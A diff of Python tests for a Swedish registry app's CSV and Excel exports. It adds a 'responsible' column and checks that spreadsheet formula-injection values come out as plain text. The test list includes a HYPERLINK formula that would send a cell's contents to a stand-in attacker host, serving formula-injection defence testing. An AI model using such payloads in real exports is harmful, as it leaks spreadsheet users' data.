@@ -159,6 +159,7 @@ def test_cells_are_typed_in_excel_and_swedish_in_csv(reader_client):
         population=22_513,
         member_since=datetime.date(2019, 3, 1),
         county=CountyFactory(code="25", name="Norrbottens län"),
+        responsible=UserFactory(username="anna", first_name="Anna", last_name="Berg"),
     )
     contract = ContractFactory(
         title="EGIL-avtal",
@@ -190,10 +191,11 @@ def test_cells_are_typed_in_excel_and_swedish_in_csv(reader_client):
         22_513,
         datetime.datetime(2019, 3, 1),
         None,
+        "Anna Berg",
     ]
     assert members_csv[1] == [
         "Kiruna", municipality, not_member, member.kommunkod, "Norrbottens län", "22513",
-        "2019-03-01", "",
+        "2019-03-01", "", "Anna Berg",
     ]  # fmt: skip
     assert contract_xlsx == [
         contract.number,
@@ -204,8 +206,9 @@ def test_cells_are_typed_in_excel_and_swedish_in_csv(reader_client):
         datetime.datetime(2099, 12, 31),
         1234.5,
         1,
+        None,
     ]
-    assert contract_csv[3:] == [active, "2025-01-01", "2099-12-31", "1234,50", "1"]
+    assert contract_csv[3:] == [active, "2025-01-01", "2099-12-31", "1234,50", "1", ""]
     assert deal_xlsx[5] == 99000
     assert abs(deal_xlsx[8] - local_updated) < datetime.timedelta(seconds=1)
     assert deal_csv[5] == "99000,00"
@@ -245,16 +248,20 @@ DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+1", "-2", "@SU
 
 
 def test_formulas_in_text_come_out_as_harmless_text(reader_client):
-    for name in DANGEROUS:
-        ContactFactory(first_name=name, last_name="", phone="+46 8 123 45 67")
-    ContactFactory(first_name="Anna", last_name="Svensson", phone="")
+    # Emails of their own, in the order of the names (the factory's sequence would sort
+    # "kontakt10" before "kontakt9", depending on the tests run before).
+    for i, name in enumerate(DANGEROUS):
+        ContactFactory(
+            first_name=name, last_name="", phone="+46 8 123 45 67", email=f"k{i}@example.se"
+        )
+    ContactFactory(first_name="Anna", last_name="Svensson", phone="", email="k9@example.se")
 
     rows = csv_rows(export(reader_client, "contacts", "csv", sort="email"))
     sheet = xlsx_sheet(export(reader_client, "contacts", "xlsx", sort="email"))
 
     # CSV has no types: a leading apostrophe makes the spreadsheet show the text as it is.
     assert [row[0] for row in rows[1:]] == [f"'{name}" for name in DANGEROUS] + ["Anna Svensson"]
-    assert {row[4] for row in rows[1:5]} == {"'+46 8 123 45 67"}
+    assert {row[5] for row in rows[1:5]} == {"'+46 8 123 45 67"}
     # XLSX has: the cell is text holding exactly the name, marked as typed with an apostrophe
     # so that editing it keeps it text.
     names = [row[0] for row in sheet.iter_rows(min_row=2)]
